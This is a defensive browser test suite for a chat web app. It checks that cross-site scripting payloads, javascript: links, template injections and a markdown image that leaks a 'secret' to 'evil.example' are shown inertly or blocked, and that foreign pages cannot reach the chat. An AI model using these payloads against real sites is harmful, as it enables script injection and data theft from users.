"""What people, models and strangers write is shown and never run; nothing is fetched from elsewhere."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pytest

from botcore.adapter import AccessRequest
from botcore.messages import Button, Text

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page

    from botcore_web import WebAdapter
    from tests.web.conftest import House, Visiting, Visitor

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

TOKEN = "not-a-real-token-0123"

HOSTILE = [
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "<svg onload='window.owned = 1'></svg>",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<form action='/login'><button>Press me</button></form>",
    "[press me](javascript:window.owned=1)",
    "[press me](JAVASCRIPT:window.owned=1)",
    "<a href='javascript:window.owned=1'>press me</a>",
    "![x](x'onerror='window.owned=1)",
    "```<script>window.owned = 1</script>\n<script>window.owned = 1</script>\n```",
    "{{ constructor.constructor('window.owned = 1')() }}",
    "`${window.owned = 1}`",
    "</script><script>window.owned = 1</script>",
]


WAYS_IN = """async (url) => {
    const path = "/_nicegui_ws/socket.io/?EIO=4&transport=websocket";
    const socket = new WebSocket(url.replace("http", "ws") + path);
    const opened = new Promise((done) => {
        socket.onopen = () => done(true);
        socket.onerror = () => done(false);
    });
    const read = await fetch(url).then((answer) => answer.text()).catch(() => "refused");
    await fetch(url, { method: "POST", mode: "no-cors", body: "x" }).catch(() => null);
    const script = document.createElement("script");
    const ran = new Promise((done) => {
        script.onload = () => done(true);
        script.onerror = () => done(false);
    });
    script.src = url + "/_nicegui/x.js";
    document.body.append(script);
    return [await opened, read, await ran];
}"""


async def unharmed(page: Page) -> None:
    assert await page.locator(".message a[href]").count() == 0
    assert await page.evaluate("window.owned") is None
    inside = ".message script, .message img, .message iframe, .message svg[onload], .message form, .message style"
    assert await page.locator(inside).count() == 0
    handlers = "[...document.querySelectorAll('.message *')].some(e => [...e.attributes].some(a => /^on/.test(a.name)))"
    assert await page.evaluate(handlers) is False


async def test_hostile_text_is_only_text(house: House, web: WebAdapter, visitor: Visitor) -> None:
    visit = await visitor.opens(web)
    messages = visit.page.locator(".message")
    for number, hostile in enumerate(HOSTILE):
        await visit.says(hostile)
        await house.hears(hostile)
        place = await house.reserves(web, visit.chat)
        await house.grows(web, visit.chat, place, hostile)
        await visit.page.locator(".growing").wait_for()
        assert await messages.nth(number * 3).locator(".text").inner_text() == hostile
        await unharmed(visit.page)
        await house.settles(web, visit.chat, place, hostile)
        await visit.page.locator(".growing").wait_for(state="detached")
        await house.answers(web, visit.chat, Text(hostile, plain=True))
        await messages.nth(number * 3 + 2).wait_for()
        await unharmed(visit.page)
    await visit.page.reload()
    await messages.nth(len(HOSTILE) * 3 - 1).wait_for()
    await unharmed(visit.page)


async def test_hostile_names_are_only_names(house: House, web: WebAdapter, visitor: Visitor) -> None:
    hostile = "<img src=x onerror='window.owned = 1'>"
    house.strangers = [AccessRequest("CODE", hostile, hostile, hostile, datetime.now(UTC))]
    visit = await visitor.opens(web)
    buttons = [[Button(hostile, says=hostile), Button("go", url="javascript:window.owned=1")]]
    await house.answers(web, visit.chat, "Well?", buttons=buttons)
    await visit.page.get_by_role("button", name=hostile).click()
    await house.until(lambda: house.presses == [hostile])
    assert await visit.page.get_by_text("go", exact=True).get_attribute("href") is None
    await visit.says(hostile)
    await visit.page.locator(".sidebar .chat a").get_by_text(hostile).wait_for()
    await unharmed(visit.page)


async def test_the_policy_stops_what_the_sanitiser_might_miss(web: WebAdapter, visitor: Visitor) -> None:
    """Markup put straight into the page does not run, and its pictures are not fetched."""
    visit = await visitor.opens(web)
    await visit.page.evaluate(
        """() => {
            document.querySelector(".flow").insertAdjacentHTML("beforeend",
                `<img src="/nothing" onerror="window.owned = 1"><img src="http://127.0.0.1:9/beacon.png">`);
            const script = document.createElement("script");
            script.textContent = "window.owned = 2";
            document.body.append(script);
        }"""
    )
    await visit.page.wait_for_function("[...document.images].every((image) => image.complete)")
    assert await visit.page.evaluate("window.owned") is None
    refused = "\n".join(visitor.errors)
    assert "beacon.png" in refused
    assert "inline event handler" in refused
    assert "inline script" in refused
    visitor.errors.clear()


async def test_pictures_of_an_answer_are_not_fetched_from_elsewhere(
    house: House, web: WebAdapter, visitor: Visitor
) -> None:
    visit = await visitor.opens(web)
    await house.answers(web, visit.chat, "![secret](https://evil.example/?q=secret)")
    link = visit.page.locator(".message a")
    await link.wait_for()
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert await visit.page.locator(".message img").count() == 0
    assert visitor.foreign == []


async def test_the_page_fetches_nothing_from_elsewhere(house: House, web: WebAdapter, visitor: Visitor) -> None:
    asked: list[str] = []
    visitor.context.on("request", lambda request: asked.append(request.url))
    visit = await visitor.opens(web)
    await visit.says("Hello")
    await house.hears("Hello")
    await house.answers(web, visit.chat, "# Hi\n\n```python\nx = 1\n```")
    await visit.page.locator(".rich pre").wait_for()
    assert len(asked) > 5
    assert [url for url in asked if not url.startswith((web.url, "data:", "blob:"))] == []
    assert visitor.errors == []


async def test_another_sites_page_reaches_nothing(house: House, web: WebAdapter, visitor: Visitor) -> None:
    """A foreign page in the owner's browser, on another port of this machine, tries its ways in."""
    await visitor.context.route("http://localhost:9/", lambda route: route.fulfill(body="<h1>evil</h1>"))
    page = await visitor.context.new_page()
    await page.goto("http://localhost:9/")
    for address in (web.url, web.url.replace("127.0.0.1", "localhost")):
        outcome = await page.evaluate(WAYS_IN, address)
        assert outcome == [False, "refused", False]
    await page.set_content(f'<iframe src="{web.url}"></iframe>')
    frame = page.frames[-1]
    await frame.wait_for_load_state()
    assert await frame.locator("textarea").count() == 0
    assert house.inbox == []


async def test_the_token_is_asked_for_once_and_leaves_the_address(
    house: House, visitor: Visitor, visiting: Visiting
) -> None:
    async with visiting.serving(house, token=TOKEN) as web:
        page = await visitor.context.new_page()
        await page.goto(web.url)
        await page.get_by_label("Access token").fill("a wrong one, certainly")
        await page.get_by_role("button", name="Open the chat").click()
        await page.get_by_text("That is not the token.").wait_for()
        await page.get_by_label("Access token").fill(TOKEN)
        await page.get_by_role("button", name="Open the chat").click()
        await page.get_by_label("Your message").wait_for()
        assert "token" not in page.url
        assert await page.evaluate("document.cookie") == ""
        visit = await visitor.opens(web)
        await visit.says("I am in")
        await house.hears("I am in")


async def test_a_link_with_the_token_opens_the_chat_from_anywhere(
    house: House, browser: Browser, visiting: Visiting
) -> None:
    async with visiting.serving(house, token=TOKEN) as web, visiting.profile(browser) as visitor:
        link = f'<a href="{web.url}/?token={TOKEN}">the chat</a><a href="{web.url}/">again</a>'
        await visitor.context.route(
            "http://localhost:9/", lambda route: route.fulfill(body=link, content_type="text/html")
        )
        page = await visitor.context.new_page()
        for name in ("the chat", "again"):
            await page.goto("http://localhost:9/")
            await page.get_by_text(name).click()
            await page.get_by_label("Your message").wait_for()
            assert TOKEN not in page.url
        assert visitor.foreign == []
